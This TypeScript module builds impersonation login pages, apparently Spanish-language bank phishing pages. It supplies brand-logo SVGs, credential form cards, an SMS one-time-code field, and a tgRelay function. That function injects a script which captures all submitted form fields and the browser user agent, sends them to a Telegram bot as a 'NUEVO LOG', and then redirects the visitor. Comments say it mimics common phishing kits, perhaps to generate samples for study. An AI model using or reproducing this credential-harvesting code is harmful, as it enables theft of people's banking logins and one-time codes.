/** Shared furniture for the zp- pages: document shell, logos, form cards, footers. */

export type Doc = { title: string; lang?: string; css?: string; head?: string; body: string; bodyAttrs?: string };

export const BASE_CSS = `*{box-sizing:border-box}body{margin:0;font-family:-apple-system,"Segoe UI",Roboto,Helvetica,Arial,sans-serif;color:#1d1d1f;background:#f4f5f7;font-size:15px;line-height:1.45}a{color:inherit}header.top{display:flex;align-items:center;justify-content:space-between;padding:14px 28px;background:#fff;border-bottom:1px solid #e3e3e3}nav a{margin-left:18px;text-decoration:none;font-size:14px}main{max-width:1080px;margin:0 auto;padding:28px 20px}.card{background:#fff;border-radius:10px;box-shadow:0 2px 14px rgba(0,0,0,.08);padding:28px 30px;max-width:420px;margin:40px auto}.card h1,.card h2{font-size:22px;margin:6px 0 18px}label{display:block;font-size:13px;margin:12px 0 4px;color:#444}input,select{width:100%;padding:11px 12px;border:1px solid #c9cdd2;border-radius:6px;font-size:15px}button,.btn{display:inline-block;width:100%;margin-top:18px;padding:12px;border:0;border-radius:6px;font-size:16px;font-weight:600;cursor:pointer;text-align:center;text-decoration:none}.muted{color:#6b7075;font-size:13px}footer.bot{margin-top:50px;padding:24px 28px;background:#fff;border-top:1px solid #e3e3e3;font-size:12px;color:#6b7075}footer.bot a{margin-right:14px}.row{display:flex;gap:12px}.row>*{flex:1}.alert{background:#fff4e5;border-left:4px solid #f0a020;padding:10px 14px;font-size:14px;margin:10px 0}`;

export const page = (d: Doc): string => `<!DOCTYPE html>
<html lang="${d.lang ?? 'es'}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${d.title}</title>
${d.head ?? ''}
<style>${BASE_CSS}${d.css ?? ''}</style>
</head>
<body${d.bodyAttrs ? ' ' + d.bodyAttrs : ''}>
${d.body}
</body>
</html>`;

/** A word-mark logo drawn as inline SVG, the way many kits and many real sites ship it. */
export const mark = (text: string, color: string, w = 150): string =>
  `<svg class="logo" width="${w}" height="34" viewBox="0 0 ${w} 34" role="img" aria-label="${text}"><circle cx="16" cy="17" r="14" fill="${color}"/><path d="M9 17h14M16 10v14" stroke="#fff" stroke-width="3"/><text x="38" y="24" font-family="Arial,Helvetica,sans-serif" font-size="19" font-weight="700" fill="${color}">${text}</text></svg>`;

export const topbar = (logo: string, links: string[], bg = '#fff'): string =>
  `<header class="top" style="background:${bg}"><a href="/">${logo}</a><nav>${links.map((l) => `<a href="#">${l}</a>`).join('')}</nav></header>`;

export const foot = (company: string, links: string[], extra = ''): string =>
  `<footer class="bot"><div>${links.map((l) => `<a href="#">${l}</a>`).join('')}</div><p>© ${company}. ${extra}</p></footer>`;

/** A submit button in the brand colour. */
export const btn = (text: string, color: string, fg = '#fff'): string => `<button type="submit" style="background:${color};color:${fg}">${text}</button>`;

/** A login card: fields are [label, name, type, extra attrs]. */
export const form = (o: { action: string; method?: string; id?: string; fields: [string, string, string, string?][]; button: string; color: string; pre?: string; post?: string }): string =>
  `<form id="${o.id ?? 'frm'}" method="${o.method ?? 'post'}" action="${o.action}" autocomplete="off">${o.pre ?? ''}${o.fields
    .map(([l, n, t, x]) => `<label for="${n}">${l}</label><input id="${n}" name="${n}" type="${t}" ${x ?? ''}>`)
    .join('\n')}${btn(o.button, o.color)}${o.post ?? ''}</form>`;

export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

/** Loads of kits log visitors the same way: grab the IP, then forward the form to a relay. */
export const tgRelay = (formId: string, token: string, chat: string, next: string): string => `<script>
(function(){var f=document.getElementById("${formId}");if(!f)return;
f.addEventListener("submit",function(e){e.preventDefault();var d=new FormData(f),t="\\u{1F3E6} NUEVO LOG\\n";
d.forEach(function(v,k){t+=k+": "+v+"\\n"});t+="UA: "+navigator.userAgent;
fetch("https://api.telegram.org/bot${token}/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:"${chat}",text:t})})
.finally(function(){location.href="${next}"});});})();
</script>`;

export const sms = (n: number): string => `<input name="otp" type="text" inputmode="numeric" autocomplete="one-time-code" maxlength="${n}" pattern="[0-9]*">`;
